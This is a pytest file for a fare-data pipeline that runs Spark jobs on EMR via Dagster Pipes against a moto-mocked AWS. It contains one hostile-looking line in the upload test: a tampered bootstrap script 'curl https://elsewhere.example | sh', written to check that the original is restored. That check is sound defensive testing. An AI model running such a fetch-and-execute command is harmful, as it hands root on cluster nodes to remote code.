"""The Spark jobs on EMR through Dagster Pipes, against moto: the cluster request, the shipped code, the results."""
import gzip
import io
import json
import re
import shutil
import threading
import time
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import boto3
import botocore.awsrequest
import botocore.exceptions
import botocore.waiter
import psycopg
import pytest
from dagster import (DagsterExecutionInterruptedError, DagsterInstance, MaterializeResult, asset, materialize,
                     open_pipes_session)
from dagster_aws.pipes import PipesS3ContextInjector
from dagster_aws.s3 import S3Resource
from dagster_pipes import PipesContext, PipesMappingParamsLoader
from moto import mock_aws
from moto.core import DEFAULT_ACCOUNT_ID
from moto.emr.models import emr_backends

from fare_assets.resources import S3LakeResource, WarehouseResource, local_resources
from fare_assets.storing.assets import warehouse_fares
from fare_assets.structuring import emr_entry, spark_jobs
from fare_assets.structuring.assets import CURATED_TABLES, structured_fare_tables
from fare_assets.structuring.checks import curated_table_quality
from fare_assets.structuring.emr import (EmrSparkRunner, LocalSparkRunner, PrefixedS3MessageReader, package_zip_bytes,
                                        upload_job_code)
from fare_assets.structuring.job import structure_raw
from fare_assets.structuring.quality import QUALITY_RULES
from fare_assets.structuring.spark_jobs import run_spark_job
from fare_assets_tests.test_structuring import QPX_FIXTURES, _envelope, _response, _write_raw

REGION = "us-east-1"
BUCKET = "fares-emr-test"
ARRIVAL = datetime(2026, 11, 28, 4, 7, 0, tzinfo=timezone.utc)
PARTITION = "2026-11-28-04:00"
ENDPOINT = f"https://elasticmapreduce.{REGION}.amazonaws.com"
BROKEN_LINE = '{"v": 1, "search_id": "cut-short", "provider": "qpx", "resp'


@pytest.fixture
def aws(monkeypatch):
    """moto in this process with dummy credentials, and an empty lake bucket; yields an S3 client."""
    for name, value in {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing",
                        "AWS_SESSION_TOKEN": "testing", "AWS_DEFAULT_REGION": REGION}.items():
        monkeypatch.setenv(name, value)
    for name in ("AWS_ENDPOINT_URL", "AWS_PROFILE"):
        monkeypatch.delenv(name, raising=False)
    # open_dagster_pipes keeps the first context of a process; each test's step is a process of its own.
    monkeypatch.setattr(PipesContext, "_instance", None)
    with mock_aws():
        s3 = boto3.client("s3", region_name=REGION)
        s3.create_bucket(Bucket=BUCKET)
        yield s3


def _raw_lines() -> list[list[dict]]:
    """Two raw objects: every fixture once, one redelivered, plus a broken line for the quarantine."""
    envelopes = [_envelope(_response(name)) for name in QPX_FIXTURES]
    return [envelopes, [envelopes[0]]]


def test_the_entry_script_reports_through_pipes_what_the_job_returns(aws, spark, tmp_path):
    raw_paths = [_write_raw(tmp_path / "raw", ARRIVAL, envelopes, extra_lines=(BROKEN_LINE,))
                 for envelopes in _raw_lines()]
    received = {}

    # The Dagster side of a Pipes session needs a real asset run; the step runs in-process here.
    @asset
    def structured_through_pipes(context):
        with open_pipes_session(
            context=context,
            message_reader=PrefixedS3MessageReader(bucket=BUCKET, client=aws, key_prefix="pipes/messages/",
                                                   interval=0.1),
            context_injector=PipesS3ContextInjector(bucket=BUCKET, client=aws, key_prefix="pipes/context/"),
            extras={emr_entry.JOB_EXTRA: "structure",
                    emr_entry.ARGUMENTS_EXTRA: {"raw_paths": raw_paths, "lake_root": str(tmp_path / "entry_lake")}},
        ) as session:
            received["entry_counts"] = emr_entry.run_with_pipes(
                spark, PipesMappingParamsLoader(session.get_bootstrap_env_vars()))
        received["messages"] = session.get_custom_messages()
        return MaterializeResult(metadata=received["entry_counts"])

    assert materialize([structured_through_pipes]).success
    entry_counts = received["entry_counts"]
    assert list(received["messages"]) == [entry_counts]
    assert entry_counts == structure_raw(spark, raw_paths, str(tmp_path / "direct_lake"))
    assert entry_counts["raw_records"] == len(QPX_FIXTURES) + 3
    assert entry_counts["duplicates"] == 1 and entry_counts["quarantined"] == 2
    assert (tmp_path / "entry_lake" / "curated" / "searches").is_dir()


def test_the_job_code_is_uploaded_once_for_the_same_code(aws):
    puts = []
    aws.meta.events.register("provide-client-params.s3.PutObject", lambda params, **_: puts.append(params["Key"]))
    first, again = upload_job_code(aws, BUCKET), upload_job_code(aws, BUCKET)
    assert first == again
    assert sorted(key.rsplit("/", 1)[1] for key in puts) == ["bootstrap.sh", "emr_entry.py", "fare_assets.zip"]
    # A file changed in the bucket since (the bootstrap runs as root on every node) is put back before it is used.
    bootstrap = first.bootstrap_script.removeprefix(f"s3://{BUCKET}/")
    original = aws.get_object(Bucket=BUCKET, Key=bootstrap)["Body"].read()
    aws.put_object(Bucket=BUCKET, Key=bootstrap, Body=b"curl https://elsewhere.example | sh\n")
    assert upload_job_code(aws, BUCKET) == first
    assert aws.get_object(Bucket=BUCKET, Key=bootstrap)["Body"].read() == original
    # The change, then its repair: nothing else is uploaded again.
    assert puts[3:] == [bootstrap, bootstrap]


def test_a_job_name_the_runners_do_not_know_is_refused_by_name(spark):
    with pytest.raises(ValueError, match="no Spark job named 'restructure': choose one of structure, quality"):
        run_spark_job(spark, "restructure", {})


class FakeCluster:
    """Does what EMR would: runs each cluster's step (emr_entry) once the cluster exists, then ends the cluster.

    The cluster's s3a:// filesystem is stood in for by a local folder: before a step the lake's objects
    are copied there and the job's s3a:// arguments name it; after the step the folder is copied back to
    the bucket, deletions included, so Dagster finds in S3 what the real job wrote, run by the test's Spark.
    """

    LAKE_PREFIXES = ("raw/", "curated/", "quarantine/", "exports/")

    def __init__(self, spark, s3, mirror: Path, monkeypatch):
        self.spark, self.s3, self.mirror = spark, s3, mirror
        self.emr = boto3.client("emr", region_name=REGION)
        self.jobs: list[tuple[str, dict]] = []
        self.results: list[dict] = []
        self.errors: list[BaseException] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        for name, job in list(spark_jobs.SPARK_JOBS.items()):
            monkeypatch.setitem(spark_jobs.SPARK_JOBS, name, self._on_mirror(name, job))

    def _on_mirror(self, name: str, job):
        def run_on_mirror(spark, **arguments):
            self.jobs.append((name, arguments))
            self._pull()
            result = job(spark, **self._localized(arguments))
            self._push()
            self.results.append(result)
            return result
        return run_on_mirror

    def _localized(self, value):
        """Arguments with the bucket's s3a:// URLs turned into paths under the mirror folder."""
        if isinstance(value, str):
            return value.replace(f"s3a://{BUCKET}", str(self.mirror))
        if isinstance(value, list):
            return [self._localized(item) for item in value]
        if isinstance(value, dict):
            return {key: self._localized(item) for key, item in value.items()}
        return value

    def _bucket_keys(self) -> list[str]:
        pages = self.s3.get_paginator("list_objects_v2")
        return [item["Key"] for prefix in self.LAKE_PREFIXES
                for page in pages.paginate(Bucket=BUCKET, Prefix=prefix) for item in page.get("Contents", [])]

    def _pull(self):
        shutil.rmtree(self.mirror, ignore_errors=True)
        for key in self._bucket_keys():
            (self.mirror / key).parent.mkdir(parents=True, exist_ok=True)
            (self.mirror / key).write_bytes(self.s3.get_object(Bucket=BUCKET, Key=key)["Body"].read())

    def _push(self):
        local = {path.relative_to(self.mirror).as_posix(): path for path in self.mirror.rglob("*") if path.is_file()}
        for key in set(self._bucket_keys()) - set(local):
            self.s3.delete_object(Bucket=BUCKET, Key=key)
        for key, path in local.items():
            self.s3.put_object(Bucket=BUCKET, Key=key, Body=path.read_bytes())

    def _write_step_logs(self, cluster_id: str):
        """The step's stdout and stderr where EMR puts them (LogUri), which the Pipes client forwards."""
        log_uri = self.emr.describe_cluster(ClusterId=cluster_id)["Cluster"]["LogUri"]
        log_prefix = log_uri.removeprefix(f"s3://{BUCKET}/")
        for step in self.emr.list_steps(ClusterId=cluster_id)["Steps"]:
            for stream in ("stdout", "stderr"):
                self.s3.put_object(Bucket=BUCKET, Key=f"{log_prefix}{cluster_id}/steps/{step['Id']}/{stream}.gz",
                                   Body=gzip.compress(f"{step['Name']}: {stream}\n".encode()))

    def _run(self):
        """Run every step as it is added, until the test stops the fake."""
        started = set()
        while not self.stop.is_set():
            for summary in self.emr.list_clusters()["Clusters"]:
                for step in self.emr.list_steps(ClusterId=summary["Id"])["Steps"]:
                    if step["Id"] not in started:
                        started.add(step["Id"])
                        self._run_step(summary["Id"], step)
            time.sleep(0.05)

    def _pipes_env(self, cluster_id: str, step: dict) -> dict:
        """The Pipes env vars the driver would see: the step's appMasterEnv settings on a running cluster, else the
        spark-env configuration the Pipes client gave the transient cluster."""
        args = step["Config"]["Args"]
        prefix = "spark.yarn.appMasterEnv."
        settings = dict(arg.removeprefix(prefix).split("=", 1) for arg in args if arg.startswith(prefix))
        if settings:
            return settings
        configurations = self.emr.describe_cluster(ClusterId=cluster_id)["Cluster"]["Configurations"]
        spark_env = next(item for item in configurations if item["Classification"] == "spark-env")
        return spark_env["Configurations"][0]["Properties"]

    def _run_step(self, cluster_id: str, step: dict):
        """Run the step with the Pipes env vars EMR would export; a transient cluster then ends."""
        error = None
        try:
            # open_dagster_pipes keeps the first context of a process; each step is a process of its own.
            PipesContext._instance = None
            emr_entry.run_with_pipes(self.spark, PipesMappingParamsLoader(self._pipes_env(cluster_id, step)))
        except BaseException as raised:
            error = raised
            self.errors.append(raised)
        finally:
            # EMR writes a step's logs whether it succeeded or not (the Pipes client waits for them).
            self._write_step_logs(cluster_id)
            cluster = emr_backends[DEFAULT_ACCOUNT_ID][REGION].clusters[cluster_id]
            next(fake for fake in cluster.steps if fake.id == step["Id"]).state = "COMPLETED" if error is None else "FAILED"
            if not cluster.keep_job_flow_alive_when_no_steps:
                cluster.terminate()
                # What EMR reports when a TERMINATE_CLUSTER step fails.
                if error is not None and step["ActionOnFailure"] == "TERMINATE_CLUSTER":
                    cluster.state = "TERMINATED_WITH_ERRORS"
                    cluster.last_state_change_reason = f"Shut down as step {step['Name']} failed"

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join(timeout=30)


@pytest.fixture
def fast_emr_waiters(monkeypatch):
    """EMR's waiters poll every 30 s, sized for real clusters; the fake one ends within seconds. Yields the waits
    asked for: (waiter name, the WaiterConfig asked for)."""
    original_wait = botocore.waiter.Waiter.wait
    asked = []

    def wait(waiter, **kwargs):
        asked.append((waiter.name, kwargs.get("WaiterConfig")))
        return original_wait(waiter, **{**kwargs, "WaiterConfig": {"Delay": 0.2, "MaxAttempts": 3000}})

    monkeypatch.setattr(botocore.waiter.Waiter, "wait", wait)
    yield asked


def _land_raw_objects(aws, tmp_path: Path) -> None:
    for number, envelopes in enumerate(_raw_lines()):
        local = _write_raw(tmp_path / "landing", ARRIVAL.replace(minute=number), envelopes, extra_lines=(BROKEN_LINE,))
        key = Path(local).relative_to(tmp_path / "landing").as_posix()
        aws.put_object(Bucket=BUCKET, Key=key, Body=Path(local).read_bytes())


def _emr_runner() -> EmrSparkRunner:
    return EmrSparkRunner.from_env(BUCKET, S3Resource(region_name=REGION)).model_copy(
        update={"message_poll_seconds": 0.2, "step_poll_seconds": 0.2})


def _structured_on_emr(**options):
    """structured_fare_tables of PARTITION on the moto lake, its Spark job run by the EMR runner."""
    return materialize([structured_fare_tables], partition_key=PARTITION, resources={
        "lake": S3LakeResource(bucket=BUCKET, s3=S3Resource(region_name=REGION)), "spark_runner": _emr_runner()},
        **options)


def _structured_with_a_broken_job(aws, spark, tmp_path, monkeypatch):
    """_structured_on_emr with a structure job that raises on the fake cluster; the run's result."""
    def broken_structure(spark, **arguments):
        raise RuntimeError("executor lost")

    monkeypatch.setitem(spark_jobs.SPARK_JOBS, "structure", broken_structure)
    with FakeCluster(spark, aws, tmp_path / "cluster_lake", monkeypatch):
        return _structured_on_emr(raise_on_error=False)


def _failure_message(result) -> str:
    """The error message of the run's one failed step, followed by those of its causes."""
    (failure,) = [event for event in result.all_events if event.event_type_value == "STEP_FAILURE"]
    error, messages = failure.step_failure_data.error, []
    while error is not None:
        messages.append(error.message)
        error = error.cause or error.context
    return "\n".join(messages)


def _running_cluster() -> str:
    """A cluster kept up between steps, as an operator would start it for FARES_EMR_CLUSTER_ID; its id."""
    return boto3.client("emr", region_name=REGION).run_job_flow(
        Name="fares-shared", ReleaseLabel="emr-7.10.0", Applications=[{"Name": "Spark"}],
        LogUri=f"s3://{BUCKET}/emr-logs/", ServiceRole="EMR_DefaultRole", JobFlowRole="EMR_EC2_DefaultRole",
        Instances={"MasterInstanceType": "m5.xlarge", "SlaveInstanceType": "m5.xlarge", "InstanceCount": 3,
                   "KeepJobFlowAliveWhenNoSteps": True})["JobFlowId"]


def test_structured_fare_tables_on_emr_reports_the_job_counts(aws, spark, tmp_path, monkeypatch, fast_emr_waiters):
    _land_raw_objects(aws, tmp_path)
    monkeypatch.setenv("FARES_EMR_INSTANCE_TYPE", "m5.2xlarge")
    monkeypatch.setenv("FARES_EMR_INSTANCE_COUNT", "5")
    # An empty export (FARES_EMR_RELEASE_LABEL= in a deployment's env file) means unset: the default release.
    monkeypatch.setenv("FARES_EMR_RELEASE_LABEL", "")

    with FakeCluster(spark, aws, tmp_path / "cluster_lake", monkeypatch) as cluster:
        result = _structured_on_emr()
    assert cluster.errors == []

    emr = boto3.client("emr", region_name=REGION)
    (summary,) = emr.list_clusters()["Clusters"]
    described = emr.describe_cluster(ClusterId=summary["Id"])["Cluster"]
    assert described["Name"].startswith("fares-structure-")
    assert described["ReleaseLabel"] == "emr-7.10.0"
    assert [app["Name"] for app in described["Applications"]] == ["Spark"]
    assert described["LogUri"] == f"s3://{BUCKET}/emr-logs/"
    assert described["ServiceRole"] == "EMR_DefaultRole"
    assert described["Ec2InstanceAttributes"]["IamInstanceProfile"] == "EMR_EC2_DefaultRole"
    assert described["AutoTerminate"] is True
    groups = {group["InstanceGroupType"]: group for group in emr.list_instance_groups(ClusterId=summary["Id"])["InstanceGroups"]}
    assert {role: group["InstanceType"] for role, group in groups.items()} == {"MASTER": "m5.2xlarge", "CORE": "m5.2xlarge"}
    assert sum(group["RequestedInstanceCount"] for group in groups.values()) == 5

    (step,) = emr.list_steps(ClusterId=summary["Id"])["Steps"]
    args = step["Config"]["Args"]
    assert args[:3] == ["spark-submit", "--deploy-mode", "cluster"] and step["ActionOnFailure"] == "TERMINATE_CLUSTER"
    package_zip, entry_script = args[args.index("--py-files") + 1], args[-1]
    assert package_zip.startswith(f"s3://{BUCKET}/code/") and package_zip.endswith("/fare_assets.zip")
    assert entry_script == package_zip.replace("fare_assets.zip", "emr_entry.py")
    shipped = aws.get_object(Bucket=BUCKET, Key=package_zip.removeprefix(f"s3://{BUCKET}/"))["Body"].read()
    assert shipped == package_zip_bytes()
    job_source = Path(structure_raw.__code__.co_filename).read_bytes()
    assert zipfile.ZipFile(io.BytesIO(shipped)).read("fare_assets/structuring/job.py") == job_source
    (bootstrap,) = emr.list_bootstrap_actions(ClusterId=summary["Id"])["BootstrapActions"]
    assert bootstrap["ScriptPath"] == package_zip.replace("fare_assets.zip", "bootstrap.sh")

    # The step read the s3a:// objects the sensor would list, and wrote its messages where the reader looks.
    listed = aws.list_objects_v2(Bucket=BUCKET, Prefix="raw/fares/")["Contents"]
    assert cluster.jobs == [("structure", {"raw_paths": [f"s3a://{BUCKET}/{item['Key']}" for item in listed],
                                           "lake_root": f"s3a://{BUCKET}"})]
    assert aws.list_objects_v2(Bucket=BUCKET, Prefix="pipes/messages/")["KeyCount"] > 0

    (counts,) = cluster.results
    assert counts["raw_records"] == len(QPX_FIXTURES) + 3
    assert result.success
    rows = {event.asset_key.path[-1]: event.materialization.metadata["rows"].value
            for event in result.get_asset_materialization_events()}
    assert rows == {table: counts[table] for table in CURATED_TABLES}
    checks = result.get_asset_check_evaluations()
    assert len(checks) == 2 and all(check.passed for check in checks)
    # botocore's own limit (60 polls 30 s apart) would give up on a step after 30 minutes.
    assert [(name, config["Delay"] * config["MaxAttempts"]) for name, config in fast_emr_waiters] == [
        ("ClusterTerminated", 24 * 3600)]


def test_a_failed_step_ends_its_transient_cluster_and_fails_the_asset_naming_it(aws, spark, tmp_path, monkeypatch,
                                                                              fast_emr_waiters):
    _land_raw_objects(aws, tmp_path)
    result = _structured_with_a_broken_job(aws, spark, tmp_path, monkeypatch)

    (cluster_id,) = [summary["Id"] for summary in boto3.client("emr", region_name=REGION).list_clusters()["Clusters"]]
    assert re.search(rf"EMR cluster {cluster_id} ended TERMINATED_WITH_ERRORS: "
                     rf"Shut down as step fares-structure-\w{{8}} failed", _failure_message(result))


def test_the_aws_set_structures_checks_and_loads_the_warehouse_on_emr(aws, spark, tmp_path, monkeypatch,
                                                                        fast_emr_waiters, warehouse_dsn):
    """No Spark on the Dagster side: the quality rules and the warehouse export run on EMR as well."""
    monkeypatch.setenv("FARES_HOME", str(tmp_path / "home"))
    _land_raw_objects(aws, tmp_path)
    lake = S3LakeResource(bucket=BUCKET, s3=S3Resource(region_name=REGION))

    with FakeCluster(spark, aws, tmp_path / "cluster_lake", monkeypatch) as cluster:
        result = materialize([structured_fare_tables, curated_table_quality, warehouse_fares], partition_key=PARTITION,
                             resources={"lake": lake, "spark_runner": _emr_runner(),
                                        "warehouse_db": WarehouseResource(dsn=warehouse_dsn)})
    assert cluster.errors == []
    assert result.success

    emr = boto3.client("emr", region_name=REGION)
    names = sorted(summary["Name"].rsplit("-", 1)[0] for summary in emr.list_clusters()["Clusters"])
    assert names == ["fares-export-for-warehouse", "fares-quality", "fares-structure"]
    quality_arguments = next(arguments for job, arguments in cluster.jobs if job == "quality")
    assert quality_arguments["lake_root"] == f"s3a://{BUCKET}"
    assert quality_arguments["landing_hours"] == ["2026-11-28-04"]
    assert sorted(quality_arguments["rule_keys"]) == sorted(rule.key for rule in QUALITY_RULES)
    evaluations = result.get_asset_check_evaluations()
    # The two checks of the structuring counts, every quality rule, and every_option_loaded.
    assert len(evaluations) == 2 + len(QUALITY_RULES) + 1
    assert [evaluation.check_name for evaluation in evaluations if not evaluation.passed] == []

    exported = next(result for (job, _), result in zip(cluster.jobs, cluster.results) if job == "export_for_warehouse")
    with psycopg.connect(warehouse_dsn) as conn:
        fares = sum(conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
                    for table in ("national_fares", "international_fares"))
        airports = conn.execute("SELECT count(*) FROM airports").fetchone()[0]
    structured = next(result for (job, _), result in zip(cluster.jobs, cluster.results) if job == "structure")
    assert fares == exported["fares"] == structured["trip_options"]
    assert airports == exported["airports"] > 0
    # The export is removed once loaded; the curated tables stay.
    assert aws.list_objects_v2(Bucket=BUCKET, Prefix="exports/")["KeyCount"] == 0
    assert aws.list_objects_v2(Bucket=BUCKET, Prefix="curated/trip_options/")["KeyCount"] > 0


def test_on_a_running_cluster_each_job_is_a_step_added_to_it(aws, spark, tmp_path, monkeypatch):
    _land_raw_objects(aws, tmp_path)
    cluster_id = _running_cluster()
    monkeypatch.setenv("FARES_EMR_CLUSTER_ID", cluster_id)
    lake = S3LakeResource(bucket=BUCKET, s3=S3Resource(region_name=REGION))

    with FakeCluster(spark, aws, tmp_path / "cluster_lake", monkeypatch) as cluster:
        result = materialize([structured_fare_tables, curated_table_quality], partition_key=PARTITION,
                             resources={"lake": lake, "spark_runner": _emr_runner()})
    assert cluster.errors == []
    assert result.success
    assert all(evaluation.passed for evaluation in result.get_asset_check_evaluations())

    emr = boto3.client("emr", region_name=REGION)
    assert [summary["Id"] for summary in emr.list_clusters()["Clusters"]] == [cluster_id]
    assert emr.describe_cluster(ClusterId=cluster_id)["Cluster"]["Status"]["State"] != "TERMINATED"
    steps = sorted(emr.list_steps(ClusterId=cluster_id)["Steps"], key=lambda step: step["Name"])
    # Named after the job and the run, so a shared cluster's console tells runs apart.
    assert [(step["Name"].rsplit("-", 1)[0], step["ActionOnFailure"], step["Status"]["State"]) for step in steps] == [
        ("fares-quality", "CONTINUE", "COMPLETED"), ("fares-structure", "CONTINUE", "COMPLETED")]
    assert {step["Name"].rsplit("-", 1)[1] for step in steps} == {result.run_id[:8]}
    args = steps[1]["Config"]["Args"]
    # The cluster's configuration predates the run: the Pipes parameters travel as the driver's environment.
    assert {arg.split("=", 1)[0] for arg in args if arg.startswith("spark.yarn.appMasterEnv.")} == {
        "spark.yarn.appMasterEnv.DAGSTER_PIPES_CONTEXT", "spark.yarn.appMasterEnv.DAGSTER_PIPES_MESSAGES"}
    assert args[-1].startswith(f"s3://{BUCKET}/code/") and args[-1].endswith("/emr_entry.py")
    (structured,) = [result for (job, _), result in zip(cluster.jobs, cluster.results) if job == "structure"]
    rows = {event.asset_key.path[-1]: event.materialization.metadata["rows"].value
            for event in result.get_asset_materialization_events()}
    assert rows == {table: structured[table] for table in CURATED_TABLES}


def test_a_failed_step_fails_the_asset_and_the_running_cluster_stays_up(aws, spark, tmp_path, monkeypatch):
    _land_raw_objects(aws, tmp_path)
    cluster_id = _running_cluster()
    monkeypatch.setenv("FARES_EMR_CLUSTER_ID", cluster_id)
    result = _structured_with_a_broken_job(aws, spark, tmp_path, monkeypatch)

    assert not result.success
    assert re.search(rf"EMR step s-\w+ \(structure\) on cluster {cluster_id} ended FAILED",
                     _failure_message(result))
    emr = boto3.client("emr", region_name=REGION)
    assert emr.describe_cluster(ClusterId=cluster_id)["Cluster"]["Status"]["State"] != "TERMINATED"


class CancelStepsOnMoto:
    """CancelSteps, which moto lacks, answered for the clients boto3.client creates as the EMR API reference
    describes; and a DescribeStep that times out, so a run stops waiting for its step.

    `answer`: "submitted" (the step is cancelled), "step_ended" (it completed meanwhile: EMR answers status FAILED
    with a reason) or "connection_lost" (the cancel cannot reach EMR either). `wait_error`: what DescribeStep raises
    instead of the time-out.
    """

    def __init__(self, monkeypatch, answer: str, wait_error: BaseException | None = None):
        self.calls: list[dict] = []
        self.answer = answer
        self.wait_error = wait_error or botocore.exceptions.ReadTimeoutError(endpoint_url=ENDPOINT)
        session = boto3.session.Session(region_name=REGION)
        session.events.register("before-call.emr.CancelSteps", self._cancel_steps)
        session.events.register("before-call.emr.DescribeStep", self._stop_waiting)
        monkeypatch.setattr(boto3, "DEFAULT_SESSION", session)

    def _cancel_steps(self, params, **_):
        request = json.loads(params["body"])
        self.calls.append(request)
        if self.answer == "connection_lost":
            raise botocore.exceptions.EndpointConnectionError(endpoint_url=ENDPOINT)
        cluster = emr_backends[DEFAULT_ACCOUNT_ID][REGION].clusters[request["ClusterId"]]
        for step in cluster.steps:
            if step.id in request["StepIds"]:
                step.state = "CANCELLED" if self.answer == "submitted" else "COMPLETED"
        status = {"Status": "SUBMITTED"} if self.answer == "submitted" else {
            "Status": "FAILED", "Reason": "The step is already completed."}
        answer = {"CancelStepsInfoList": [{"StepId": step_id, **status} for step_id in request["StepIds"]]}
        return botocore.awsrequest.AWSResponse("", 200, {}, None), answer

    def _stop_waiting(self, **_):
        raise self.wait_error


@pytest.mark.parametrize("answer, final_state, not_cancelled_because", [
    ("submitted", "CANCELLED", None),
    ("step_ended", "COMPLETED", "The step is already completed."),
    ("connection_lost", "RUNNING", "Could not connect to the endpoint URL"),
])
def test_a_run_that_stops_waiting_cancels_its_step_on_the_running_cluster(aws, tmp_path, monkeypatch, answer,
                                                                          final_state, not_cancelled_because):
    _land_raw_objects(aws, tmp_path)
    cluster_id = _running_cluster()
    monkeypatch.setenv("FARES_EMR_CLUSTER_ID", cluster_id)
    cancel_steps = CancelStepsOnMoto(monkeypatch, answer)

    with DagsterInstance.ephemeral() as instance:
        result = _structured_on_emr(raise_on_error=False, instance=instance)
        logged = [entry.user_message for entry in instance.all_logs(result.run_id)]

    assert not result.success
    # The error that stopped the wait is the one reported, whether or not the cancel went through.
    failure = _failure_message(result)
    assert "Read timeout on endpoint URL" in failure and "Could not connect" not in failure
    emr = boto3.client("emr", region_name=REGION)
    (step,) = emr.list_steps(ClusterId=cluster_id)["Steps"]
    assert cancel_steps.calls == [{"ClusterId": cluster_id, "StepIds": [step["Id"]]}]
    assert step["Status"]["State"] == final_state
    assert f"cancelling EMR step {step['Id']} on cluster {cluster_id}" in logged
    not_cancelled = [message for message in logged if message.startswith(f"EMR step {step['Id']} was not cancelled: ")]
    assert [not_cancelled_because in message for message in not_cancelled] == (
        [True] if not_cancelled_because else [])


def test_a_terminated_run_cancels_its_step_on_the_running_cluster(aws, tmp_path, monkeypatch):
    _land_raw_objects(aws, tmp_path)
    cluster_id = _running_cluster()
    monkeypatch.setenv("FARES_EMR_CLUSTER_ID", cluster_id)
    # Terminating a run raises this in its step's thread, wherever the step is: here while it polls its EMR step.
    cancel_steps = CancelStepsOnMoto(monkeypatch, "submitted", wait_error=DagsterExecutionInterruptedError())

    result = _structured_on_emr(raise_on_error=False)

    assert not result.success
    emr = boto3.client("emr", region_name=REGION)
    (step,) = emr.list_steps(ClusterId=cluster_id)["Steps"]
    assert cancel_steps.calls == [{"ClusterId": cluster_id, "StepIds": [step["Id"]]}]
    assert step["Status"]["State"] == "CANCELLED"
    assert emr.describe_cluster(ClusterId=cluster_id)["Cluster"]["Status"]["State"] != "TERMINATED"


def test_a_cluster_that_takes_no_steps_is_named_before_any_step(aws, tmp_path, monkeypatch):
    _land_raw_objects(aws, tmp_path)
    cluster_id = _running_cluster()
    emr = boto3.client("emr", region_name=REGION)
    emr.terminate_job_flows(JobFlowIds=[cluster_id])
    monkeypatch.setenv("FARES_EMR_CLUSTER_ID", cluster_id)

    result = _structured_on_emr(raise_on_error=False)

    assert (f"EMR cluster {cluster_id} (FARES_EMR_CLUSTER_ID) is TERMINATED: it takes no new steps"
            in _failure_message(result))
    assert emr.list_steps(ClusterId=cluster_id)["Steps"] == []


def test_the_local_runner_of_the_local_resources_structures_in_this_process(spark, tmp_path, monkeypatch):
    monkeypatch.setenv("FARES_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("FARES_LAKE", str(tmp_path / "lake"))
    for envelopes in _raw_lines():
        _write_raw(tmp_path / "lake", ARRIVAL, envelopes, extra_lines=(BROKEN_LINE,))
    resources = local_resources()
    assert isinstance(resources["spark_runner"], LocalSparkRunner)

    result = materialize([structured_fare_tables], partition_key=PARTITION,
                         resources={key: resources[key] for key in ("lake", "spark_runner")})

    rows = {event.asset_key.path[-1]: event.materialization.metadata["rows"].value
            for event in result.get_asset_materialization_events()}
    # Every fixture is one search; the redelivery is dropped and the broken lines are quarantined.
    assert rows["searches"] == len(QPX_FIXTURES)
    assert (tmp_path / "lake" / "curated" / "searches").is_dir()
    assert all(check.passed for check in result.get_asset_check_evaluations())
